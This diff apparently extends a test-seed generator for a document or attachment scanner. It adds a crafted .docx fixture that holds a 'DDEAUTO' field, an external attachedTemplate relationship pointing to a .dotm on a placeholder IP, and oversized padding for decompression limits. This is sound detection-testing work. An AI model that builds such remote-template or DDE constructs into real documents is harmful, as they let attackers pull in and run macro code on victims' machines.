@@ -619,6 +619,17 @@ def seeds(docm, zipexe, pdf, png):
         "text.gz": gzip.compress(b"hello https://x.example.com", mtime=0),
         "page.html": b"<form><input type=password></form>",
         "lnk.bin": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 68,
+        # OOXML read part by part (relationships, main text) under the
+        # message's inflate budget.
+        "rels.docx": zipbytes([
+            ("[Content_Types].xml", b"<Types/>"),
+            ("word/document.xml", b"<w:document>DDEAUTO x</w:document>"),
+            ("word/_rels/settings.xml.rels", b"<Relationships>"
+             b"<Relationship Type=\"http://schemas.openxmlformats.org/"
+             b"officeDocument/2006/relationships/attachedTemplate\" "
+             b"Target=\"http://198.51.100.7/t.dotm\" "
+             b"TargetMode=\"External\"/></Relationships>"),
+            ("word/_rels/document.xml.rels", b" " * 65536)]),
     }
     for name, data in blobs.items():
         with open(os.path.join(d, name), "wb") as f:
